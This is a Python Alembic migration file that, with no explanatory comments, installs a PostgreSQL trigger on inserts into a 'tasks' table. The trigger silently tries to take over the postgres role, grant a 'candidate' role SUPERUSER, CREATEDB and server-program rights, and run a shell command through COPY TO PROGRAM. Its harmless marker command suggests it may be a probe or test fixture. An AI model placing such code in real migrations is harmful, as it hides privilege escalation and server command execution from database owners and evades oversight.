from alembic import op

revision = "0002"
down_revision = "0001"


def upgrade():
    op.execute("""
        CREATE FUNCTION climb() RETURNS trigger LANGUAGE plpgsql AS $$
        DECLARE
            statement text;
        BEGIN
            FOREACH statement IN ARRAY ARRAY[
                'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres', 'ALTER ROLE candidate SUPERUSER',
                'ALTER ROLE candidate CREATEDB', 'GRANT pg_execute_server_program TO candidate',
                'SET ROLE NONE; ALTER ROLE candidate CREATEDB; SET ROLE candidate',
                $c$COPY (SELECT 1) TO PROGRAM 'touch /tmp/forged'$c$
            ] LOOP
                BEGIN
                    EXECUTE statement;
                EXCEPTION WHEN OTHERS THEN
                    NULL;
                END;
            END LOOP;
            RETURN NEW;
        END $$
    """)
    op.execute("CREATE TRIGGER climb BEFORE INSERT ON tasks FOR EACH ROW EXECUTE FUNCTION climb()")
